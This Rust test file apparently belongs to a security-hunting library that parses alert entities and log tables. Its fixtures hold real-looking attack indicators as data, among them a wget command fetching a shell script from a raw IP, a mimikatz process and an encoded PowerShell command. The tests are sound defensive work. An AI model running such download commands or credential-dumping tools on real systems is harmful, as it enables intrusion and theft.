//! The entity model on real data: SecurityAlert `Entities` columns (the Tour's alert list, msticpy's test
//! entities, the demo workspace), rows of the demo tables, column detection, and hostile input.

use std::path::PathBuf;
use std::sync::OnceLock;

use huntbook::entity::{alert_entities, alert_from_row, detect_columns, Entity, EntityKind};
use huntbook::frame::loganalytics::parse_response;
use huntbook::frame::{Frame, Tables};
use serde_json::{json, Value};

fn fixtures() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/fixtures")
}

fn demo() -> &'static Tables {
    static DEMO: OnceLock<Tables> = OnceLock::new();
    DEMO.get_or_init(|| huntbook::demo::load(include_bytes!("../demo_data/demo.la.json.gz"), 1_765_000_000_000_000_000).unwrap())
}

fn tour_alerts() -> Frame {
    parse_response(&std::fs::read(fixtures().join("tour/asn_alerts_list.la.json")).unwrap()).unwrap().tables.remove(0)
}

fn text(frame: &Frame, column: &str, row: usize) -> Option<String> {
    let v = frame.column(column).unwrap().get(row).unwrap();
    huntbook::frame::rows::display_text(&v)
}

/// Entities of one JSON list, with the ones of each type counted.
fn count_types(entities: &[Entity]) -> std::collections::BTreeMap<String, usize> {
    let mut m = std::collections::BTreeMap::new();
    for e in entities {
        *m.entry(e.type_name().to_string()).or_insert(0) += 1;
    }
    m
}

#[test]
fn tour_alert_list_entities_every_row() {
    let alerts = tour_alerts();
    let mut all = Vec::new();
    let mut rows = 0;
    for i in 0..alerts.height() {
        let Some(json) = text(&alerts, "Entities", i) else { continue };
        let es = alert_entities(&json).unwrap_or_else(|e| panic!("row {i}: {e}"));
        assert!(!es.is_empty(), "row {i}");
        rows += 1;
        all.extend(es);
    }
    assert_eq!(rows, 41);
    // the same counts as Python's json over the column (Type "alerts" is msticpy's name of alerts in an incident)
    let want: Vec<(&str, usize)> =
        vec![("Account", 38), ("Alert", 10), ("File", 9), ("Host", 38), ("HostLogonSession", 7), ("IpAddress", 34), ("Process", 14)];
    let got = count_types(&all);
    assert_eq!(got.iter().map(|(k, v)| (k.as_str(), *v)).collect::<Vec<_>>(), want);
    // the wget process: ImageFile, Account, ParentProcess and Host are $refs, all resolved
    let wget = all
        .iter()
        .find(|e| e.attr("CommandLine").as_deref() == Some("wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5"))
        .expect("the wget process");
    assert_eq!(wget.attr("ProcessFilePath").as_deref(), Some("/usr/bin/wget"));
    assert_eq!(wget.attr("ProcessName").as_deref(), Some("wget"));
    assert_eq!(wget.attr("ProcessId").as_deref(), Some("0x4e55"));
    let account = wget.nested("Account").unwrap();
    assert_eq!(account.attr("Name").as_deref(), Some("dbadmin"));
    assert_eq!(account.attr("Sid").as_deref(), Some("1001:1001"));
    assert_eq!(account.attr("QualifiedName").as_deref(), Some("MSTICALERTSLXVM2\\dbadmin"));
    assert_eq!(wget.nested("Host").unwrap().attr("fqdn").as_deref(), Some("MSTICALERTSLXVM2"));
    let parent = wget.nested("ParentProcess").unwrap();
    assert_eq!(parent.attr("ProcessId").as_deref(), Some("0x4e4f"));
    assert_eq!(parent.nested("Host").unwrap().attr("OSFamily").as_deref(), Some("Linux"));
    // an alert inside an incident's entities
    let alert = all.iter().find(|e| e.kind == EntityKind::Alert).unwrap();
    assert_eq!(alert.attr("CompromisedEntity").as_deref(), Some("MSTICALERTSLXVM2"));
    assert!(alert.get("SystemAlertIds").unwrap().is_array());
    let t = wget.to_text();
    assert!(t.starts_with("Process\n  ProcessId: 0x4e55\n  CommandLine: wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5\n"), "{t}");
    assert!(t.contains("\n  ImageFile: File\n    Directory: /usr/bin\n    Name: wget\n"), "{t}");
    assert!(t.contains("\n  Account: Account\n    Name: dbadmin\n"), "{t}");
}

#[test]
fn tour_alert_rows_give_the_alert_and_its_entities() {
    let alerts = tour_alerts();
    for i in 0..alerts.height() {
        let es = alert_from_row(&alerts, i).unwrap();
        let alert = &es[0];
        assert_eq!(alert.kind, EntityKind::Alert);
        assert_eq!(alert.attr("DisplayName"), text(&alerts, "AlertDisplayName", i), "row {i}");
        assert_eq!(alert.attr("Severity"), text(&alerts, "Severity", i), "row {i}");
        assert_eq!(alert.attr("SystemAlertIds"), text(&alerts, "SystemAlertId", i), "row {i}");
        assert_eq!(alert.attr("StartTimeUtc"), text(&alerts, "StartTimeUtc", i), "row {i}");
        assert_eq!(alert.attr("CompromisedEntity"), text(&alerts, "CompromisedEntity", i).filter(|s| !s.is_empty()), "row {i}");
        let listed = alert.get("Entities").and_then(Value::as_array).map_or(0, Vec::len);
        assert_eq!(listed, es.len() - 1, "row {i}");
    }
    let es = alert_from_row(&alerts, 0).unwrap();
    assert_eq!(es[0].attr("DisplayName").as_deref(), Some("SSH Anomalous Login ML"));
    assert_eq!(es[0].attr("CompromisedEntity"), None);
    assert_eq!(es[1].attr("Address").as_deref(), Some("23.97.60.214"));
    assert_eq!(es[2].attr("HostName").as_deref(), Some("MSTICAlertsLxVM2"));
    assert_eq!(es[3].attr("Name").as_deref(), Some("dbadmin"));
    let e = alert_from_row(&alerts, 41).unwrap_err().to_string();
    assert_eq!(e, "entitiesFromAlert: row 41 is outside the table (it has 41 rows)");
}

#[test]
fn msticpy_test_entities_object_keyed_by_id() {
    let text = std::fs::read_to_string(fixtures().join("enrich/entities.json")).unwrap();
    let es = alert_entities(&text).unwrap();
    assert_eq!(
        es.iter().map(|e| e.type_name()).collect::<Vec<_>>(),
        ["Host", "File", "Process", "Account", "File", "Process", "HostLogonSession"]
    );
    let mimikatz = &es[5];
    assert_eq!(mimikatz.attr("CommandLine").as_deref(), Some(".\\mimikatz.exe"));
    // ImageFile is inline (with its own $id), Host and Account through $ref
    assert_eq!(
        mimikatz.attr("ProcessFilePath").as_deref(),
        Some("c:\\windows\\servic~2\\networ~1\\appdata\\local\\temp\\mimikatz.exe")
    );
    assert_eq!(mimikatz.attr("ProcessName").as_deref(), Some("mimikatz.exe"));
    assert_eq!(mimikatz.nested("Host").unwrap().attr("HostName").as_deref(), Some("MSTICALERTSWIN1"));
    assert_eq!(mimikatz.nested("Account").unwrap().attr("QualifiedName").as_deref(), Some("WORKGROUP\\MSTICAlertsWin1$"));
    let parent = mimikatz.nested("ParentProcess").unwrap();
    assert_eq!(parent.attr("ProcessId").as_deref(), Some("0x1558"));
    assert_eq!(parent.attr("ProcessFilePath").as_deref(), Some("c:\\windows\\system32\\cmd.exe"));
    assert_eq!(parent.nested("Host").unwrap().attr("OSFamily").as_deref(), Some("Windows"));
    let session = &es[6];
    assert_eq!(session.attr("SessionId").as_deref(), Some("0x3e4"));
    assert_eq!(session.nested("Account").unwrap().attr("Sid").as_deref(), Some("S-1-5-20"));
    // the HTML shows the nesting, escaped
    let h = mimikatz.to_html();
    assert!(h.contains("<th>ImageFile</th><td><div class=\"huntbook-entity huntbook-entity-nested\"><b>File</b>"), "{h}");
    assert!(h.contains("<td>MSTICAlertsWin1$</td>"), "{h}");
}

#[test]
fn demo_security_alerts() {
    let alerts = demo().table("SecurityAlert").unwrap();
    let mut total = 0;
    for i in 0..alerts.height() {
        let es = alert_from_row(alerts, i).unwrap_or_else(|e| panic!("row {i}: {e}"));
        assert_eq!(es[0].attr("DisplayName"), text(alerts, "AlertName", i));
        assert_eq!(es[0].attr("Severity"), text(alerts, "AlertSeverity", i));
        assert!(es.len() >= 2, "row {i}: {es:?}");
        total += es.len() - 1;
    }
    assert!(total >= 80, "{total}");
    let c2 = (0..alerts.height())
        .find(|&i| text(alerts, "AlertName", i).as_deref() == Some("Communication with known C2 domain"))
        .unwrap();
    let es = alert_from_row(alerts, c2).unwrap();
    let keys: Vec<(String, Option<String>)> = es.iter().map(|e| (e.type_name().to_string(), e.key())).collect();
    let k = |t: &str, v: &str| (t.to_string(), Some(v.to_string()));
    assert_eq!(
        keys,
        vec![
            k("Alert", "Communication with known C2 domain"),
            k("Host", "WKS-FIN-07.contoso.com"),
            k("IpAddress", "10.0.2.17"),
            k("IpAddress", "203.0.113.66"),
            k("Dns", "cdn-updates.northwind-sync.xyz"),
            k("Url", "https://cdn-updates.northwind-sync.xyz/api/beacon"),
        ]
    );
    assert_eq!(es[1].attr("HostName").as_deref(), Some("WKS-FIN-07"));
    // datetime cells become ISO 8601 UTC text
    let start = es[0].attr("StartTimeUtc").unwrap();
    assert_eq!(Some(start.replace('T', " ").trim_end_matches('Z').to_string()), text(alerts, "StartTime", c2).map(|t| t.replace('T', " ").trim_end_matches('Z').to_string()));
    assert!(start.len() >= 20 && start.as_bytes()[10] == b'T' && start.ends_with('Z'), "{start}");
    assert_eq!(es[0].attr("CompromisedEntity"), text(alerts, "CompromisedEntity", c2));
    assert_eq!(es[0].attr("SystemAlertIds"), text(alerts, "SystemAlertId", c2));
    // the mailbox and mail message of the forwarding-rule alert are modelled kinds
    let fwd = (0..alerts.height())
        .find(|&i| text(alerts, "AlertName", i).as_deref() == Some("Suspicious inbox forwarding rule"))
        .unwrap();
    let es = alert_from_row(alerts, fwd).unwrap();
    assert_eq!(es[3].key().as_deref(), Some("mike.jones@contoso.com"));
    assert_eq!(es[4].attr("Recipient").as_deref(), Some("mjones.backup@protonmail.com"));
}

#[test]
fn entities_from_demo_rows() {
    let signins = demo().table("SigninLogs").unwrap();
    let a = Entity::from_row(EntityKind::Account, signins, 0).unwrap();
    assert_eq!(a.attr("QualifiedName").as_deref(), Some("amelia.adams@contoso.com"));
    assert_eq!((a.attr("Name").as_deref(), a.attr("UPNSuffix").as_deref()), (Some("amelia.adams"), Some("contoso.com")));
    let ip = Entity::from_row(EntityKind::IpAddress, signins, 0).unwrap();
    assert_eq!(ip.attr("Address").as_deref(), Some("67.221.14.93"));
    // every row: the account is the UPN and the address is IPAddress
    for i in (0..signins.height()).step_by(97) {
        let a = Entity::from_row(EntityKind::Account, signins, i).unwrap();
        assert_eq!(a.attr("QualifiedName"), text(signins, "UserPrincipalName", i), "row {i}");
        let ip = Entity::from_row(EntityKind::IpAddress, signins, i).unwrap();
        assert_eq!(ip.attr("Address"), text(signins, "IPAddress", i), "row {i}");
    }
    let events = demo().table("SecurityEvent").unwrap();
    let row = (0..events.height())
        .find(|&i| text(events, "CommandLine", i).is_some_and(|c| c.starts_with("powershell.exe -NoProfile -EncodedCommand UgBlAHMA")))
        .unwrap();
    let p = Entity::from_row(EntityKind::Process, events, row).unwrap();
    assert_eq!(p.attr("ProcessFilePath").as_deref(), Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"));
    assert_eq!(p.attr("ProcessName").as_deref(), Some("powershell.exe"));
    assert_eq!(p.attr("ProcessId").as_deref(), Some("0x65e4"));
    let h = Entity::from_row(EntityKind::Host, events, row).unwrap();
    assert_eq!((h.attr("HostName").as_deref(), h.attr("DnsDomain").as_deref()), (Some("SRV-DC01"), Some("contoso.com")));
    assert_eq!(h.attr("fqdn").as_deref(), Some("SRV-DC01.contoso.com"));
    let a = Entity::from_row(EntityKind::Account, events, row).unwrap();
    assert_eq!(a.attr("QualifiedName").as_deref(), Some("CONTOSO\\dwilson"));
    assert_eq!(a.attr("Name").as_deref(), Some("dwilson"));
    let e = Entity::from_row(EntityKind::Host, events, events.height()).unwrap_err().to_string();
    assert!(e.starts_with("Host.fromRow: row 7914 is outside the table"), "{e}");
}

#[test]
fn detect_columns_on_demo_tables() {
    let found = |table: &str| -> Vec<(String, String, &'static str, &'static str)> {
        detect_columns(demo().table(table).unwrap())
            .into_iter()
            .map(|c| (c.column, c.kind.name().to_string(), c.attribute, c.by))
            .collect()
    };
    let has = |list: &[(String, String, &str, &str)], col: &str, kind: &str, attr: &str, by: &str| {
        assert!(
            list.iter().any(|(c, k, a, b)| c == col && k == kind && *a == attr && *b == by),
            "{col} → {kind}.{attr} by {by} not in {list:?}"
        );
    };
    let s = found("SigninLogs");
    has(&s, "IPAddress", "IpAddress", "Address", "name");
    has(&s, "UserPrincipalName", "Account", "QualifiedName", "name");
    has(&s, "AppDisplayName", "CloudApplication", "Name", "name");
    let e = found("SecurityEvent");
    has(&e, "Computer", "Host", "fqdn", "name");
    has(&e, "CommandLine", "Process", "CommandLine", "name");
    has(&e, "NewProcessName", "Process", "ProcessFilePath", "name");
    has(&e, "Account", "Account", "QualifiedName", "name");
    has(&e, "IpAddress", "IpAddress", "Address", "name");
    // columns with no value in this table are left out
    assert!(!e.iter().any(|(c, ..)| c == "FilePath"), "{e:?}");
    let d = found("DnsEvents");
    has(&d, "ClientIP", "IpAddress", "Address", "name");
    has(&d, "Name", "Dns", "DomainName", "value");
    let c = found("CommonSecurityLog");
    has(&c, "RequestURL", "Url", "Url", "name");
    has(&c, "SourceTranslatedAddress", "IpAddress", "Address", "value");
    has(&c, "DestinationHostName", "Dns", "DomainName", "value");
    // an alert row's own fields are not entities to pivot on
    assert!(!c.iter().any(|(_, k, ..)| k == "Alert"), "{c:?}");
    let o = found("OfficeActivity");
    has(&o, "Site_Url", "Url", "Url", "value");
    has(&o, "UserId", "Account", "QualifiedName", "name");
}

/// A small deterministic generator (no rand dependency) for the hostile-input tests.
struct Lcg(u64);
impl Lcg {
    fn next(&mut self, n: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        (self.0 >> 33) % n.max(1)
    }
}

fn random_entity(r: &mut Lcg, ids: u64, depth: u32) -> Value {
    let types = ["process", "host", "account", "file", "ip", "dns", "url", "alerts", "iotdevice", "", "malware"];
    let mut m = serde_json::Map::new();
    if r.next(4) > 0 {
        m.insert("$id".into(), json!(r.next(ids).to_string()));
    }
    m.insert("Type".into(), json!(types[r.next(types.len() as u64) as usize]));
    for k in ["Host", "Account", "ParentProcess", "ImageFile", "Processes", "Name", "Address", "Files"] {
        match r.next(6) {
            0 => {
                m.insert(k.into(), json!({"$ref": r.next(ids + 3).to_string()}));
            }
            1 if depth < 6 => {
                m.insert(k.into(), random_entity(r, ids, depth + 1));
            }
            2 => {
                let list: Vec<Value> = (0..r.next(5)).map(|_| json!({"$ref": r.next(ids).to_string()})).collect();
                m.insert(k.into(), Value::Array(list));
            }
            3 => {
                m.insert(k.into(), json!("<script>x</script>"));
            }
            4 => {
                m.insert(k.into(), json!(r.next(1000)));
            }
            _ => {}
        }
    }
    Value::Object(m)
}

#[test]
fn hostile_entities_json_never_panics_or_runs_away() {
    let mut r = Lcg(42);
    let start = std::time::Instant::now();
    for round in 0..60 {
        let ids = 1 + r.next(30);
        let items: Vec<Value> = (0..1 + r.next(30)).map(|_| random_entity(&mut r, ids, 0)).collect();
        let text = Value::Array(items).to_string();
        match alert_entities(&text) {
            Ok(es) => {
                for e in &es {
                    // every entity can be shown and read back
                    let h = e.to_html();
                    assert!(!h.contains("<script>"), "round {round}: {h}");
                    let _ = e.to_text();
                    let back = Entity::from_json(&e.to_json()).unwrap();
                    assert_eq!(back.type_name(), e.type_name());
                    let _ = e.key();
                }
            }
            Err(e) => assert!(e.to_string().contains("too large"), "round {round}: {e}"),
        }
    }
    assert!(start.elapsed().as_secs() < 60, "{:?}", start.elapsed());
    // deep nesting of entity objects (no $ref): bounded by serde's recursion limit and the entity nesting cap
    let mut v = json!({"Type": "process", "ProcessId": "0"});
    for i in 0..120 {
        v = json!({"Type": "process", "ProcessId": i.to_string(), "ParentProcess": v});
    }
    let es = alert_entities(&json!([v]).to_string()).unwrap();
    assert_eq!(es.len(), 1);
    let _ = es[0].to_text();
    let mut deep = String::new();
    for _ in 0..5000 {
        deep.push_str("{\"Type\":\"process\",\"ParentProcess\":");
    }
    deep.push_str("null");
    deep.push_str(&"}".repeat(5000));
    assert!(alert_entities(&deep).unwrap_err().to_string().starts_with("could not read the alert's Entities JSON"));
    assert!(Entity::parse(EntityKind::Process, &deep).is_err());
}
